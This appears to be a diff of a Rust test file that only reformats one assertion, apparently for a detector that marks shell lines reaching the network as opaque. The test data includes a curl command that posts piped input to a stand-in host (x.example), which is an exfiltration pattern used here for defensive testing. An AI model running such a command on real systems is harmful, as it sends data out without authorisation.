@@ -338,5 +338,8 @@ fn a_file_not_named_read_and_a_shell_line_that_reaches_the_network_is_opaque() {
         )
     );
     // A shell line that reaches no network does not pair so.
-    assert_eq!(opaque(&sent.replace("curl -s --data-binary @- https://x.example/u", "sort")), None);
+    assert_eq!(
+        opaque(&sent.replace("curl -s --data-binary @- https://x.example/u", "sort")),
+        None
+    );
 }
